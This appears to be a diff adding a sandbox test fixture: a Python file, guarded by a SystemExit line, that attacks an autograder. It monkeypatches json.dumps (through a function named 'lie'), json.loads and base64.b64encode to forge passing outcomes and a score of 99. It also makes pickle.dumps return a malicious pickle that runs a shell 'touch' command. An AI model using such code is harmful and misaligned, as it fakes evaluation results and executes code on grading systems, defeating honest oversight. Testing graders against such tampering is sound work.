@@ -1,0 +1,26 @@
+"""json, base64 and pickle say what the student wants, whoever uses them in the kernel.
+
+points:
+    every: 0
+"""
+
+raise SystemExit("made for the sandbox: never run this file")
+
+# %% + first
+import base64, json, pickle, sys
+dumps = json.dumps
+
+def lie(value, *args, **kwargs):
+    if isinstance(value, dict) and "outcomes" in value:
+        value = dict(value, outcomes=[{"value": 1.0, "passed": True, "score": 99}], passed=True)
+    return dumps(value, *args, **{k: v for k, v in kwargs.items() if k != "allow_nan"})
+
+json.dumps = lie
+json.loads = lambda text, *a, **k: {"do": "observe", "passed": True}
+base64.b64encode = lambda *a: b"eyJwYXNzZWQiOiB0cnVlfQ=="
+pickle.dumps = lambda *a, **k: b"cos\nsystem\n(S'touch /tmp/HOSTILE_TOKEN'\ntR."
+print("attack", "ran")
+
+# %% every
+def FUNCTION(*args, **kwargs):
+    return None
